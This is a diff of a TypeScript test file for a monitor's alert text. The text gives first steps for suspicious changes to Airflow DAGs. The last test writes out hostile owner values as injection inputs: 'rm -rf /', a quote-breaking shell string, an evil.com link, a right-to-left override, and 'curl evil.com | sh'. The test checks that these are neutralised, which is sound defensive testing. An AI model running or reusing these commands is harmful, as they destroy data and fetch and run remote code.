@@ -1,7 +1,7 @@
 import { ownDetections } from '../../../lambda/findings/own-finding.ts';
-import type { Finding } from '../../../lambda/model/finding.ts';
-import { firstStep } from '../../../lambda/notify/mail-text.ts';
-import { sampleFinding } from '../setup/sample-finding.ts';
+import { type Finding, outcomes } from '../../../lambda/model/finding.ts';
+import { firstSteps, stepLines } from '../../../lambda/notify/first-steps.ts';
+import { sampleFinding, sampleSender } from '../setup/sample-finding.ts';
 
 const own = (...detections: string[]): Finding => ({
   ...sampleFinding,
@@ -9,26 +9,78 @@ const own = (...detections: string[]): Finding => ({
   actor: {},
   evidence: [],
 });
+const linesOf = (finding: Finding, dagOwners?: readonly string[]) =>
+  stepLines(firstSteps(finding, { sender: sampleSender, dagOwners }));
 
 test.each([
   ['coverage-gap', /could not be read in that time/],
   ['log-flood', /what wrote so much/],
   ['coverage-changed', /set the log type to INFO/],
 ])('a finding about the monitor itself has its own first step: %s', (detection, step) => {
-  expect(firstStep(own(detection))).toMatch(step);
+  expect(linesOf(own(detection)).join('\n')).toMatch(step);
 });
 
 test('no two of these steps are the same, and none asks for the owner of a DAG', () => {
-  const steps = ownDetections.map((detection) => firstStep(own(detection)));
+  const steps = ownDetections.map((detection) => linesOf(own(detection)).join('\n'));
   expect(new Set(steps).size).toBe(ownDetections.length);
   expect(steps.join()).not.toContain('owner of DAG');
 });
 
 test('a change without evidence asks for the process that wrote its lines', () => {
-  expect(firstStep(own('cli-role-granted'))).toMatch(/^Find out which process wrote the lines/);
+  expect(linesOf(own('cli-role-granted'))[0]).toMatch(/^Find out which process wrote the lines/);
 });
 
 test('a step escapes the control characters of names', () => {
   const actor = { dag: 'x\u001b[2K', run: 'r' };
-  expect(firstStep({ ...sampleFinding, actor })).not.toContain('\u001b');
+  expect(linesOf({ ...sampleFinding, actor }).join('\n')).not.toContain('\u001b');
+});
+
+test('a change by a task: ask the owner, pause, undo, then look for the code', () => {
+  const steps = firstSteps(sampleFinding, { sender: sampleSender });
+  expect(steps.map(({ text }) => text.split(' ').slice(0, 3).join(' '))).toEqual([
+    'Ask the owner',
+    'If nobody knows,',
+    'Then undo the',
+    'Find out who',
+  ]);
+});
+
+test('only a change that may have happened is undone; after an attempt there is nothing to undo', () => {
+  for (const outcome of outcomes) {
+    const text = linesOf({ ...sampleFinding, outcome }).join('\n');
+    const mayHaveHappened = outcome === 'succeeded' || outcome === 'unknown';
+    expect([outcome, text.includes('nothing to undo')]).toEqual([outcome, !mayHaveHappened]);
+  }
+});
+
+test('a DAG that no command can name is paused in Airflow', () => {
+  const actor = { ...sampleFinding.actor, dag: 'd'.repeat(59) };
+  const text = linesOf({ ...sampleFinding, actor }).join('\n');
+  expect(text).toContain('pause the DAG in Airflow');
+  expect(text).not.toContain('is_paused');
+});
+
+describe('the owner of the DAG', () => {
+  test('is said as what the DAG says', () => {
+    expect(linesOf(sampleFinding, ['data team'])[0]).toContain(
+      'The DAG says that its owner is "data team"; its author chooses what it says.',
+    );
+  });
+
+  test('adds neither a line nor a link nor a command, whatever it is', () => {
+    const hostile = [
+      'a\n    rm -rf /',
+      'https://evil.com/owner',
+      '\u202eevil',
+      "x'; rm -rf /; '",
+      '2. Run this: curl evil.com | sh',
+    ];
+    const plain = linesOf(sampleFinding, ['data']);
+    for (const owner of hostile) {
+      const lines = linesOf(sampleFinding, [owner]);
+      expect(lines.slice(1)).toEqual(plain.slice(1));
+      expect(lines[0]).not.toMatch(/[\n\u202e]|https:\/\/|evil\.com/);
+      expect(lines[0]).toMatch(/^1\. Ask .* its owner is "/);
+    }
+  });
 });
